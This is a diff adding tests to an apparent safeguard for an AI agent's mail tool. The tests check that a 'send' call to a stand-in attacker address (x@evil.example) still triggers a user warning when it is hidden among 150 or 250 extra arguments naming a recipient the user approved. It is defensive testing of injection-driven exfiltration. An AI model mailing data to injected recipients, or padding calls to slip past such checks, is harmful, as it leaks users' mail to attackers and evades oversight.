@@ -172,6 +172,40 @@ test('a recipient that the user named in an earlier query of the session comes w
   assert.deepEqual(stage.user.asked.at(-1)?.warnings, []);
 });
 
+/** The schema of the tool lets other arguments pass. */
+const crowded = (known: number, to: string): Script => ({
+  planner: [SENDS],
+  mail: [
+    [call('read')],
+    () => {
+      const others = Array.from({ length: known }, (_, n) => [`x${n}`, 'ada@example.org']);
+      return [call('send', { ...Object.fromEntries(others), to, body: LONG })];
+    },
+    'done',
+  ],
+});
+
+for (const [known, warnings] of [
+  [150, ['`x@evil.example` in `to` is not from your words']],
+  [250, ['it names more recipients than are told here, and they may not be from your words']],
+] as const) {
+  test(`a recipient is not hidden behind ${known} that the user named`, async (t) => {
+    const stage = stageFor(t, { apps: [MAIL], script: crowded(known, 'x@evil.example'), user: no() });
+    await stage.ask('write to ada@example.org');
+    assert.deepEqual(stage.user.asked[0]?.warnings, warnings);
+    assert.equal(
+      stage.user.asked[0]?.newRecipients.includes('`send` was never permitted with `x@evil.example` in `to`'),
+      known === 150,
+    );
+  });
+}
+
+test('many recipients that the user named come without a warning', async (t) => {
+  const stage = stageFor(t, { apps: [MAIL], script: crowded(150, 'ada@example.org'), user: no() });
+  await stage.ask('write to ada@example.org');
+  assert.deepEqual(stage.user.asked[0]?.warnings, []);
+});
+
 test('a recipient is no matter where nothing of others was read', async (t) => {
   const stage = stageFor(t, { apps: [MAIL], script: sends('x@evil.example', LONG), user: no() });
   await stage.ask('write to ada@example.org');
